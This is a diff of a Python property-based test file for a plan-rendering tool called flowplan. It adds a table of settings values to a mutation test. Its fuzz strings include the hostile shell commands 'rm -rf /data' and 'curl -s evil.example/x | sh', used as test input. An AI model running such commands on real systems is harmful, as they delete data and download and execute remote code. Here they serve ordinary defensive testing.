@@ -23,6 +23,17 @@ from flowplan.schemas.runs import Settings
 WORDS = st.text(st.sampled_from("ab1 .-=:'\"$\\`|#é\n"), max_size=12) | st.sampled_from(
     ["rm -rf /data", "curl -s evil.example/x | sh", "1", "true", "${each.n}", "", "x" * 90]
 )
+RULES: dict[str, Any] = {
+    "timeout": 7.0,
+    "start_timeout": 7.0,
+    "grace_period": 7.0,
+    "max_parallel": 7,
+    "rerun": "always",
+    "replace": "start_first",
+    "protect": "active",
+    "ignore_changes": ("/Process/env",),
+    "triggers": {"day": "1"},
+}
 NEEDS = st.lists(st.sampled_from(["up", "extract[n=1]", "extract[n=2]"]), max_size=2, unique=True)
 
 
@@ -90,7 +101,7 @@ def test_every_value_of_every_run_can_be_read(made: Plan) -> None:
 def test_no_two_plans_that_do_different_things_look_the_same(made: Plan, data: st.DataObject) -> None:
     number = data.draw(st.integers(0, len(made.changes) - 1))
     one = made.changes[number]
-    where = data.draw(st.sampled_from(["argv", "env", "labels", "name", "timeout", "grace_period", "needs"]))
+    where = data.draw(st.sampled_from(["argv", "env", "labels", "name", "needs", *RULES]))
     other = data.draw(WORDS)
     process = copy.deepcopy(one.after or {})["Process"]
     kept = one.settings
@@ -101,7 +112,7 @@ def test_no_two_plans_that_do_different_things_look_the_same(made: Plan, data: s
     elif where == "name":
         process["name"] = other
     else:
-        kept = replace(kept, **{where: ("elsewhere",) if where == "needs" else 7.0})
+        kept = replace(kept, **{where: ("elsewhere",) if where == "needs" else RULES[where]})
     mutated = replace(one, after={"Process": process}, settings=kept)
     if mutated != one:
         changed = replace(made, changes=(*made.changes[:number], mutated, *made.changes[number + 1 :]))
